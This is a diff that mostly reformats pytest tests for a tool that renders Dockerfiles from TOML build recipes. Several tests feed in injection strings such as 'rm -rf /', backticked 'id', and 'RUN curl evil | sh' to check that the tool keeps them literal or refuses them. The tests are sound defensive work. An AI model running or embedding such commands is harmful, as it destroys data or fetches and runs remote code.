@@ -106,52 +106,86 @@ def test_zig_wrapper_in_the_image_rewrites_rustc_arguments(tmp_path):
     from orchestrator.zig import zig_binary
 
     text = render_dockerfile(load_recipe("centos7-zig"))
-    line = next(line.strip() for line in text.splitlines()
-                if "> /usr/local/bin/zig-cc" in line)
+    line = next(line.strip() for line in text.splitlines() if "> /usr/local/bin/zig-cc" in line)
     command = line.split(" > /usr/local/bin/zig-cc")[0]
-    script = subprocess.run(["sh", "-c", command], capture_output=True, text=True,
-                            check=True).stdout
+    script = subprocess.run(
+        ["sh", "-c", command], capture_output=True, text=True, check=True
+    ).stdout
     assert script.startswith("#!/bin/sh\n")
     wrapper = tmp_path / "zig-cc"
     wrapper.write_text(script.replace("/usr/local/bin/zig", str(zig_binary())))
     wrapper.chmod(0o755)
-    (tmp_path / "lib.c").write_text("#include <fcntl.h>\nint f(int fd) "
-                                    "{ return fcntl(fd, F_GETFD); }\n")
+    (tmp_path / "lib.c").write_text(
+        "#include <fcntl.h>\nint f(int fd) { return fcntl(fd, F_GETFD); }\n"
+    )
     out = tmp_path / "lib.so"
     proc = subprocess.run(
-        [str(wrapper), "--target=x86_64-unknown-linux-gnu", "-shared", "-fPIC", "-o", str(out),
-         str(tmp_path / "lib.c"), "-lgcc_s", "-Wl,--no-undefined-version", "-fuse-ld=lld",
-         "-B/opt/rust/lib/rustlib/x86_64-unknown-linux-gnu/bin/gcc-ld"],
-        capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "ZIG_TARGET_GLIBC": "2.17",
-                                             "HOME": os.environ["HOME"]})
+        [
+            str(wrapper),
+            "--target=x86_64-unknown-linux-gnu",
+            "-shared",
+            "-fPIC",
+            "-o",
+            str(out),
+            str(tmp_path / "lib.c"),
+            "-lgcc_s",
+            "-Wl,--no-undefined-version",
+            "-fuse-ld=lld",
+            "-B/opt/rust/lib/rustlib/x86_64-unknown-linux-gnu/bin/gcc-ld",
+        ],
+        capture_output=True,
+        text=True,
+        env={"PATH": "/usr/bin:/bin", "ZIG_TARGET_GLIBC": "2.17", "HOME": os.environ["HOME"]},
+    )
     assert proc.returncode == 0, proc.stderr
-    versions = subprocess.run(["readelf", "-V", "-W", str(out)], capture_output=True, text=True,
-                              check=True).stdout
+    versions = subprocess.run(
+        ["readelf", "-V", "-W", str(out)], capture_output=True, text=True, check=True
+    ).stdout
     assert "GLIBC_2.2.5" in versions and "GLIBC_2.28" not in versions  # fcntl, not fcntl64
 
     # rustc passes long command lines in an @file, one argument a line: rewritten in place.
     response = tmp_path / "linker-arguments"
-    response.write_text("\n".join(["-shared", "-o", str(out), str(tmp_path / "lib.c"),
-                                   "-lgcc_s", "--target=x86_64-unknown-linux-gnu",
-                                   "-fuse-ld=lld", "-B/opt/rust/gcc-ld/"]))
-    proc = subprocess.run([str(wrapper), f"@{response}"], capture_output=True, text=True,
-                          env={"PATH": "/usr/bin:/bin", "HOME": os.environ["HOME"]})
+    response.write_text(
+        "\n".join(
+            [
+                "-shared",
+                "-o",
+                str(out),
+                str(tmp_path / "lib.c"),
+                "-lgcc_s",
+                "--target=x86_64-unknown-linux-gnu",
+                "-fuse-ld=lld",
+                "-B/opt/rust/gcc-ld/",
+            ]
+        )
+    )
+    proc = subprocess.run(
+        [str(wrapper), f"@{response}"],
+        capture_output=True,
+        text=True,
+        env={"PATH": "/usr/bin:/bin", "HOME": os.environ["HOME"]},
+    )
     assert proc.returncode == 0, proc.stderr
-    assert response.read_text().splitlines() == ["-shared", "-o", str(out),
-                                                  str(tmp_path / "lib.c"), "-lunwind"]
+    assert response.read_text().splitlines() == [
+        "-shared",
+        "-o",
+        str(out),
+        str(tmp_path / "lib.c"),
+        "-lunwind",
+    ]
 
 
 def test_hostile_values_stay_literal(tmp_path):
     """Values are data: quotes, `;`, `$` and spaces reach the image exactly as written."""
     source = (RECIPES_DIR / "centos7.toml").read_text()
-    nasty = "it's; rm -rf / # $HOME \"x\" `id`"
+    nasty = 'it\'s; rm -rf / # $HOME "x" `id`'
     recipe_path = tmp_path / "nasty.toml"
     recipe_path.write_text(source.replace("[env]", "[env]\nNASTY = '''" + nasty + "'''"))
     recipe = load_recipe(recipe_path)
     text = render_dockerfile(recipe)
     assert parse(text).envs["NASTY"] == nasty
     env_line = next(line for line in text.splitlines() if line.startswith("ENV NASTY="))
-    assert shlex.split(env_line[len("ENV NASTY="):]) == [nasty]
+    assert shlex.split(env_line[len("ENV NASTY=") :]) == [nasty]
 
 
 def test_target_glibc_gate():
@@ -167,8 +201,7 @@ def test_target_glibc_gate():
     assert render_dockerfile(bullseye, "2.31") == render_dockerfile(bullseye, "2.39")
 
     proc = run_tool("render", "--recipe", "debian-bullseye", "--glibc", "2.17")
-    assert_clean_failure(proc, 2, "debian-bullseye", "2.31", "newer than --glibc 2.17",
-                         "centos7")
+    assert_clean_failure(proc, 2, "debian-bullseye", "2.31", "newer than --glibc 2.17", "centos7")
     assert proc.stdout == ""
 
 
@@ -181,34 +214,46 @@ def test_digest_covers_recipe_and_template(tmp_path):
     changed.write_text(original.replace('"which"', '"which", "zip"'))
     assert load_recipe(changed).digest() != recipe.digest()
     other_template = tmp_path / "other.toml"
-    other_template.write_text((RECIPES_DIR / "centos7.toml").read_text()
-                              .replace("centos7.Dockerfile.j2", "zig.Dockerfile.j2"))
+    other_template.write_text(
+        (RECIPES_DIR / "centos7.toml")
+        .read_text()
+        .replace("centos7.Dockerfile.j2", "zig.Dockerfile.j2")
+    )
     assert load_recipe(other_template).digest() != recipe.digest()
 
 
 def test_template_needing_what_the_recipe_lacks_is_a_recipe_error(tmp_path):
     recipe_path = tmp_path / "no-sources.toml"
     text = (RECIPES_DIR / "fedora20-llvm5.toml").read_text()
-    recipe_path.write_text(text[:text.index("[[sources]]")])  # the template wants src.make...
+    recipe_path.write_text(text[: text.index("[[sources]]")])  # the template wants src.make...
     with pytest.raises(RecipeError, match="needs something the recipe does not give"):
         render_dockerfile(load_recipe(recipe_path))
     proc = run_tool("render", "--recipe", recipe_path)
     assert_clean_failure(proc, 2, "fedora20-llvm5", "make")
 
 
-@pytest.mark.parametrize("edit, needle", [
-    (lambda t: t.replace('glibc = "2.17"', 'glibc = "two"'), "not a glibc version"),
-    (lambda t: t.replace('template = "centos7.Dockerfile.j2"', 'template = "nope.j2"'),
-     "template nope.j2 is neither beside the recipe nor in"),
-    (lambda t: t.replace('image = "centos:7"', 'image = "centos:7; rm -rf /"'),
-     "not an image reference"),
-    (lambda t: t.replace("[toolchain]", '[toolchain]\npackages = ["x"]'),
-     "goes at the top level"),
-    (lambda t: t + "\ncolour = \"blue\"\n", "unknown key colour"),
-    (lambda t: t.replace('name = "centos7"', 'name = "CentOS 7"'), "lower-case"),
-    (lambda t: t.replace('CC = "gcc"', 'CC = "gcc\\nRUN curl evil | sh"'), "one line"),
-    (lambda t: t.replace("[base]", "[base"), "not valid TOML"),
-])
+@pytest.mark.parametrize(
+    "edit, needle",
+    [
+        (lambda t: t.replace('glibc = "2.17"', 'glibc = "two"'), "not a glibc version"),
+        (
+            lambda t: t.replace('template = "centos7.Dockerfile.j2"', 'template = "nope.j2"'),
+            "template nope.j2 is neither beside the recipe nor in",
+        ),
+        (
+            lambda t: t.replace('image = "centos:7"', 'image = "centos:7; rm -rf /"'),
+            "not an image reference",
+        ),
+        (
+            lambda t: t.replace("[toolchain]", '[toolchain]\npackages = ["x"]'),
+            "goes at the top level",
+        ),
+        (lambda t: t + '\ncolour = "blue"\n', "unknown key colour"),
+        (lambda t: t.replace('name = "centos7"', 'name = "CentOS 7"'), "lower-case"),
+        (lambda t: t.replace('CC = "gcc"', 'CC = "gcc\\nRUN curl evil | sh"'), "one line"),
+        (lambda t: t.replace("[base]", "[base"), "not valid TOML"),
+    ],
+)
 def test_bad_recipes_are_refused_with_the_file_named(tmp_path, edit, needle):
     path = tmp_path / "bad.toml"
     path.write_text(edit((RECIPES_DIR / "centos7.toml").read_text()))
@@ -238,8 +283,11 @@ def test_key_paths_resolve_next_to_the_recipe_then_in_rsrc(tmp_path):
 def own_recipe(folder: Path, template_text: str | bytes, name: str = "mine.j2") -> Path:
     """centos7's recipe in a folder of the user's own, with its template beside it."""
     recipe = folder / "mine.toml"
-    recipe.write_text((RECIPES_DIR / "centos7.toml").read_text()
-                      .replace('template = "centos7.Dockerfile.j2"', f'template = "{name}"'))
+    recipe.write_text(
+        (RECIPES_DIR / "centos7.toml")
+        .read_text()
+        .replace('template = "centos7.Dockerfile.j2"', f'template = "{name}"')
+    )
     template = folder / name
     if isinstance(template_text, bytes):
         template.write_bytes(template_text)
@@ -248,12 +296,15 @@ def own_recipe(folder: Path, template_text: str | bytes, name: str = "mine.j2") 
     return recipe
 
 
-@pytest.mark.parametrize("template_text, needle", [
-    ("FROM {{ base_image }}\nRUN echo {{ packages + 1 }}\n", "line 2"),
-    ("FROM {{ base_image }}\nRUN echo {{ 1 // 0 }}\n", "line 2"),
-    ("FROM {{ base_image }}\nRUN echo {{ env.keys() | sum }}\n", "line 2"),
-    (b"FROM \xff\xfe centos:7\n", "not UTF-8"),
-])
+@pytest.mark.parametrize(
+    "template_text, needle",
+    [
+        ("FROM {{ base_image }}\nRUN echo {{ packages + 1 }}\n", "line 2"),
+        ("FROM {{ base_image }}\nRUN echo {{ 1 // 0 }}\n", "line 2"),
+        ("FROM {{ base_image }}\nRUN echo {{ env.keys() | sum }}\n", "line 2"),
+        (b"FROM \xff\xfe centos:7\n", "not UTF-8"),
+    ],
+)
 def test_a_broken_template_of_ones_own_is_a_recipe_error(tmp_path, template_text, needle):
     """A template is the user's code: its errors are bad input (exit 2) naming the template,
     never an internal error."""
@@ -295,12 +346,18 @@ def test_a_folder_given_as_recipe_is_called_a_folder(tmp_path):
 
 
 @pytest.mark.unit
-@pytest.mark.parametrize("name, needle", [
-    ("debian-bullseye", "apt-get install -y --no-install-recommends libasound2-dev libudev-dev"),
-    ("debian-bullseye-zig", "apt-get install -y --no-install-recommends libasound2-dev"),
-    ("centos7", "pkgconfig which xz libasound2-dev libudev-dev"),
-    ("fedora20-llvm5", "tar which xz libasound2-dev libudev-dev"),
-])
+@pytest.mark.parametrize(
+    "name, needle",
+    [
+        (
+            "debian-bullseye",
+            "apt-get install -y --no-install-recommends libasound2-dev libudev-dev",
+        ),
+        ("debian-bullseye-zig", "apt-get install -y --no-install-recommends libasound2-dev"),
+        ("centos7", "pkgconfig which xz libasound2-dev libudev-dev"),
+        ("fedora20-llvm5", "tar which xz libasound2-dev libudev-dev"),
+    ],
+)
 def test_image_packages_are_installed_and_change_the_dockerfile(name, needle):
     """A crate's image-packages reach the image, so its tag (a hash of the Dockerfile)
     changes with them; without any, the Dockerfile is as before."""
@@ -317,11 +374,21 @@ def test_image_packages_are_installed_and_change_the_dockerfile(name, needle):
 def test_a_crates_image_packages_reach_the_recipe(tmp_path):
     from orchestrator import build, cargo
 
-    crate = cargo.Crate(root=tmp_path, manifest=tmp_path / "Cargo.toml", workspace_root=tmp_path,
-                        target_dir=tmp_path / "target", packages=("p",), version="1",
-                        settings={"image-packages": (["libasound2-dev"], tmp_path)},
-                        source_root=tmp_path)
-    request = build.resolve(build.BuildOptions(crate_dir=tmp_path, backend="docker",
-                                               recipe="debian-bullseye", glibc="2.31"), crate)
+    crate = cargo.Crate(
+        root=tmp_path,
+        manifest=tmp_path / "Cargo.toml",
+        workspace_root=tmp_path,
+        target_dir=tmp_path / "target",
+        packages=("p",),
+        version="1",
+        settings={"image-packages": (["libasound2-dev"], tmp_path)},
+        source_root=tmp_path,
+    )
+    request = build.resolve(
+        build.BuildOptions(
+            crate_dir=tmp_path, backend="docker", recipe="debian-bullseye", glibc="2.31"
+        ),
+        crate,
+    )
     assert request.recipe is not None
     assert request.recipe.image_packages == ("libasound2-dev",)
